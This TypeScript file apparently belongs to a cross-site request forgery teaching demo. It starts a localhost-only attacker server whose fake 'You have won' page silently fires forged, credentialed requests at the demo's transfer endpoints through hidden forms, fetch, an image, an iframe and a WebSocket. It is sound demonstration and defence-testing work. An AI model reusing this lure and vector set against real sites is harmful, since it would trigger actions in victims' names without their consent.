import type { AddressInfo } from 'node:net'
import Fastify, { type FastifyInstance } from 'fastify'

/** The names of this machine: to a browser, two sites. */
const HOSTS = ['localhost', '127.0.0.1'] as const

/** The page of somebody who wants visitors of the demonstration to do what they did not mean to. Its own origin is another port. */
function page (target: string): string {
  return `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<meta name="color-scheme" content="light dark">
<title>You have won</title>
<style>
body { margin: 0; padding: 1rem; font: 1rem/1.5 system-ui, sans-serif; text-align: center }
button { font: inherit; font-weight: 600; padding: .6rem 1.2rem; border-radius: 8px; border: 2px solid; background: none; color: inherit; cursor: pointer }
iframe { display: none }
p { margin: 0 0 .75rem }
code { font-size: .85rem }
</style>
<p>You have won! This page is <code id="me"></code></p>
<button type="button" disabled>Claim your prize</button>
<p id="done" hidden>Thank you. Look at the table.</p>
<script>
const target = ${JSON.stringify(target)}
me.textContent = location.origin
const address = (attempt, path = '/csrf/transfer') => target + path + '?attempt=' + encodeURIComponent(attempt)
function frame (name) {
  const element = document.createElement('iframe')
  element.name = name
  document.body.append(element)
  return element
}
function form (attempt, enctype) {
  frame(attempt)
  const element = document.createElement('form')
  Object.assign(element, { method: 'post', action: address(attempt), enctype, target: attempt })
  const amount = document.createElement('input')
  Object.assign(amount, { type: 'hidden', name: 'amount', value: '100' })
  element.append(amount)
  document.body.append(element)
  element.submit()
}
const post = (attempt, type, mode) => fetch(address(attempt), { method: 'POST', mode, credentials: 'include', headers: { 'content-type': type }, body: '{"amount":100}' }).catch(() => {})
const button = document.querySelector('button')
button.addEventListener('click', async () => {
  form('form', 'application/x-www-form-urlencoded')
  form('form with text/plain', 'text/plain')
  await post('fetch', 'text/plain', 'no-cors')
  await post('fetch with JSON', 'application/json', 'cors')
  new Image().src = address('image', '/csrf/transfer-by-link')
  frame('framed').src = address('iframe', '/csrf/transfer-by-link')
  new WebSocket(address('WebSocket', '/csrf/live').replace(/^http/, 'ws'))
  done.hidden = false
})
// A click before there was a listener would do nothing.
button.disabled = false
</script>`
}

/** The attacker's server, beside that of the demonstration. */
export interface Attacker {
  readonly port: number
  close (): Promise<void>
}

/**
 * Starts it on a port that is free, for this machine only; `undefined` where there is none, so that the room can say so.
 * `targetPort` is where the demonstration listens.
 */
export async function startAttacker (targetPort: number, host = 'localhost'): Promise<Attacker | undefined> {
  const app: FastifyInstance = Fastify()
  app.get<{ Querystring: { host?: string } }>('/', (request, reply) => {
    const host = HOSTS.find((name) => name === request.query.host) ?? HOSTS[0]
    return reply.type('text/html').send(page(`http://${host}:${targetPort}`))
  })
  try {
    await app.listen({ port: 0, host })
  } catch {
    return undefined
  }
  return {
    port: (app.server.address() as AddressInfo).port,
    async close () {
      // A browser keeps its connections.
      app.server.closeAllConnections()
      await app.close()
    }
  }
}
